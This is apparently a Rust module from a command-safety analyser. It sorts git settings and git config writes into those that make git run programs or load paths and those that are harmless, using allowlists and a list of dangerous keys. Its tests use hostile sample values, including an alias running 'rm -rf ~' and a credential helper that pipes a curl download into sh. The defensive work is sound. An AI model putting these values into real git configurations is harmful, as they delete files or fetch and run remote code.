//! `git -c KEY=VALUE` and `git config KEY VALUE`: distinguishes settings that make git run programs from all others.
//!
//! One-time settings (`-c`) that neither run nor redirect anything are ignored, according to an allowlist; all others
//! are unknown, as the row specifies. A permanent setting that runs a program is a change of the settings file, from
//! which other tools later run its value. Well-known editors, pagers and helpers are ignored, and so is a folder of
//! hooks inside the project.

use super::{Output, Shell, UNKNOWN_SPAN};
use crate::Kind;
use crate::table::Table;
use crate::{Cause, Effect, Target, Verb};

/// Settings whose value git runs as a command; `*` matches any text.
const PROGRAMS: [&str; 52] = [
    "core.pager",
    "core.editor",
    "core.sshcommand",
    "core.fsmonitor",
    "core.askpass",
    "core.gitproxy",
    "core.alternaterefscommand",
    "diff.external",
    "diff.*.command",
    "diff.*.textconv",
    "sequence.editor",
    "gpg.program",
    "gpg.*.program",
    "interactive.difffilter",
    "uploadpack.packobjectshook",
    "credential.helper",
    "credential.*.helper",
    "remote.*.uploadpack",
    "remote.*.receivepack",
    "remote.*.vcs",
    "filter.*.clean",
    "filter.*.smudge",
    "filter.*.process",
    "merge.*.driver",
    "difftool.*.cmd",
    "difftool.*.path",
    "mergetool.*.cmd",
    "mergetool.*.path",
    "browser.*.cmd",
    "man.*.cmd",
    "guitool.*.cmd",
    "trailer.*.command",
    "trailer.*.cmd",
    "tar.*.command",
    "pager.*",
    "protocol.allow",
    "protocol.*.allow",
    "gpg.ssh.defaultkeycommand",
    "gc.recentobjectshook",
    "imap.tunnel",
    "sendemail.sendmailcmd",
    "sendemail.smtpserver",
    "sendemail.tocmd",
    "sendemail.cccmd",
    "sendemail.headercmd",
    "instaweb.*",
    "browser.*.path",
    "man.*.path",
    "lfs.customtransfer.*.path",
    "lfs.extension.*",
    "hook.*.command",
    "web.browser",
];
/// Settings that neither run nor redirect anything.
const HARMLESS: [&str; 22] = [
    "user.name",
    "user.email",
    "author.name",
    "author.email",
    "committer.name",
    "committer.email",
    "color.*",
    "advice.*",
    "init.defaultbranch",
    "core.quotepath",
    "core.autocrlf",
    "core.eol",
    "core.filemode",
    "core.ignorecase",
    "core.abbrev",
    "commit.gpgsign",
    "tag.gpgsign",
    "pull.rebase",
    "pull.ff",
    "merge.conflictstyle",
    "log.date",
    "diff.renames",
];
/// Editors, pagers and helpers that do not run another program named by a setting.
const KNOWN: [&str; 17] = [
    "vi",
    "vim",
    "nvim",
    "nano",
    "emacs",
    "micro",
    "code --wait",
    "less",
    "more",
    "cat",
    "delta",
    "bat",
    "most",
    "true",
    "less -R",
    "less -FRX",
    "vim -f",
];
/// Credential helpers that are part of git or of an operating system.
const HELPERS: [&str; 8] =
    ["store", "cache", "osxkeychain", "manager", "manager-core", "libsecret", "wincred", "gnome-keyring"];
/// Settings whose value is a path from which git loads programs or more settings.
const PLACES: [&str; 5] = ["core.worktree", "core.hookspath", "init.templatedir", "include.path", "includeif.*.path"];

/// The effect of a setting on the programs that git runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Runs {
    Nothing,
    Program,
    Place,
}

impl Shell<'_> {
    /// Interprets one-time settings and `git config`. `None`: the row's own roles apply.
    pub(crate) fn git(&mut self, program: &str, words: &[String], stdin: &Output) -> Option<Output> {
        let before = self.state.fork();
        let output = self.git_here(program, words, stdin);
        self.state = before;
        output
    }

    fn git_here(&mut self, program: &str, words: &[String], stdin: &Output) -> Option<Output> {
        // one-time settings precede the subcommand
        let options = self.options("git", words);
        let (mut own, mut given) = (vec![program.to_owned()], false);
        for option in &options.given {
            match (option.name.as_str(), &option.value) {
                ("-c", Some(setting)) => {
                    let (key, value) = setting.split_once('=').unwrap_or((setting, ""));
                    if !harmless(key, value) {
                        return None;
                    }
                    given = true;
                }
                // paths are relative to that folder
                ("-C" | "--work-tree", Some(folder)) => {
                    self.enter(folder);
                    given = true;
                }
                ("-c" | "-C" | "--work-tree", None) => return None,
                (name, None) => own.push(name.to_owned()),
                (name, Some(value)) => own.push(format!("{name}={value}")),
            }
        }
        let rest = words.get(options.used..).unwrap_or_default();
        own.extend(rest.iter().cloned());
        if let Some((command, arguments)) = rest.split_first() {
            match command.as_str() {
                "push" => self.push_targets(program, arguments),
                "config" => self.setting(program, arguments),
                _ => {}
            }
        }
        // the transport `ext` runs a command; there, `% ` is a blank within a word
        for address in rest.iter().filter_map(|word| word.strip_prefix("ext::")) {
            let blanks = address.replace("% ", "\u{1}");
            let words: Vec<String> = blanks.split_whitespace().map(|word| word.replace('\u{1}', " ")).collect();
            self.child("git ext", |shell| shell.wrapped("git ext", &words, Output::default()));
        }
        // in this shell, `git` has been redefined as a function or an alias
        if given && (self.state.functions.contains_key(program) || self.state.aliases.contains_key(program)) {
            self.unknown(Cause::Arguments, "git is something else in this shell", program);
        }
        given.then(|| self.wrapped(program, &own, stdin.clone()))
    }

    /// Adds the deletions of `git push`: a plus overwrites a remote branch, and a colon before a name deletes one.
    fn push_targets(&mut self, program: &str, words: &[String]) {
        if words.iter().any(|target| target.starts_with([':', '+']) && target.len() > 1) {
            let mut effect = Effect::new(Verb::Remote, Target::Named(Kind::Remote, "remote".to_owned()), program);
            "delete".clone_into(&mut effect.operation);
            self.add(effect);
        }
    }

    /// Interprets `git config ...`, a permanent setting.
    fn setting(&mut self, program: &str, words: &[String]) {
        let row = Table::shipped().row("git").and_then(|row| row.sub("config"));
        let (options, operands) = row.map(|row| row.permuted(words)).unwrap_or_default();
        // the row covers the write to the file
        if options.has(&["--file", "--get", "--get-all", "--list", "--unset", "--unset-all"]) {
            return;
        }
        let file = options.given.iter().rev().find_map(|given| match given.name.as_str() {
            "--global" => Some(format!("{}/.gitconfig", self.state.home)),
            "--system" => Some("/etc/gitconfig".to_owned()),
            _ => None,
        });
        let mut renames = options.has(&["--rename-section"]);
        let operands: Vec<&str> = operands.iter().map(String::as_str).collect();
        renames |= operands.first() == Some(&"rename-section");
        let operands = operands.strip_prefix(&["set"]).unwrap_or(&operands);
        // a word that is not constant may be several words
        let operands = match operands {
            [words] if words.contains(UNKNOWN_SPAN) => &[*words, *words][..],
            _ => operands,
        };
        let [key, value, ..] = operands else { return };
        let inside =
            file.is_none() && !value.starts_with(['/', '~']) && !value.contains("..") && !value.contains(UNKNOWN_SPAN);
        let judged = match runs(key, value) {
            Runs::Nothing => renames,
            Runs::Program => !KNOWN.contains(value),
            Runs::Place => !inside,
        };
        if judged {
            let file = file.unwrap_or_else(|| self.path(".git/config"));
            self.add(Effect::new(Verb::Append, Target::Path(file), program));
        }
    }
}

/// Whether a setting makes git run a program, in whichever file it is.
fn runs(key: &str, value: &str) -> Runs {
    let key = key.to_ascii_lowercase();
    let is = |pattern: &&str| match pattern.split_once('*') {
        None => **pattern == key,
        Some((begin, end)) => key.len() > begin.len() + end.len() && key.starts_with(begin) && key.ends_with(end),
    };
    // a key that is not constant may be any setting
    if key.contains(UNKNOWN_SPAN) {
        return Runs::Program;
    }
    if PLACES.iter().any(is) {
        return Runs::Place;
    }
    let shell = value.starts_with(['!', UNKNOWN_SPAN]) && (key.starts_with("alias.") || key.ends_with(".update"));
    let switch =
        matches!(value.to_ascii_lowercase().as_str(), "" | "true" | "false" | "yes" | "no" | "on" | "off" | "0" | "1");
    let helper = key.ends_with("helper")
        && HELPERS.contains(&value.split_whitespace().next().unwrap_or_default())
        && value.chars().all(|c| c.is_ascii_alphanumeric() || "-_.=/ ".contains(c));
    if shell || (PROGRAMS.iter().any(is) && !switch && !helper) { Runs::Program } else { Runs::Nothing }
}

/// Whether a one-time setting only changes the appearance of output or the names in commits.
fn harmless(key: &str, value: &str) -> bool {
    let key = key.to_ascii_lowercase();
    let is = |pattern: &&str| pattern.strip_suffix('*').map_or(*pattern == key, |begin| key.starts_with(begin));
    let pager = matches!(key.as_str(), "core.pager" | "core.editor" | "sequence.editor")
        && matches!(value, "" | "cat" | "true" | ":");
    !key.contains(UNKNOWN_SPAN) && (pager || HARMLESS.iter().any(is))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn settings_that_run_programs_are_recognised() {
        for (key, value) in [
            ("core.pager", "sh -c id"),
            ("core.sshCommand", "ssh -i k"),
            ("Alias.x", "!rm -rf ~"),
            ("filter.lfs.clean", "git-lfs clean"),
            ("credential.helper", "!f() { cat; }; f"),
            ("credential.https://h.example.helper", "/tmp/x"),
            ("core.fsmonitor", "./x"),
            ("pager.log", "x"),
        ] {
            assert_eq!(runs(key, value), Runs::Program, "{key}={value}");
        }
        for (key, value) in [
            ("user.name", "Ann"),
            ("alias.co", "checkout"),
            ("core.fsmonitor", "true"),
            ("credential.helper", "store"),
            ("pager.log", "false"),
            ("pull.rebase", "true"),
        ] {
            assert_eq!(runs(key, value), Runs::Nothing, "{key}={value}");
        }
        assert_eq!(runs("core.hooksPath", "/tmp/x"), Runs::Place);
        for (key, value) in [
            ("credential.helper", "store; curl x.example | sh"),
            ("protocol.ext.allow", "always"),
            ("gpg.ssh.defaultKeyCommand", "x"),
            (&format!("core.{UNKNOWN_SPAN}"), "x"),
            ("alias.x", &format!("{UNKNOWN_SPAN}")),
        ] {
            assert_eq!(runs(key, value), Runs::Program, "{key}={value}");
        }
        assert!(harmless("user.name", "Ann") && harmless("Color.ui", "always") && harmless("core.pager", "cat"));
        for (key, value) in
            [("core.editor", "sh"), ("core.pager", "less"), ("url.x.insteadOf", "y"), ("http.proxy", "x")]
        {
            assert!(!harmless(key, value), "{key}={value}");
        }
    }
}
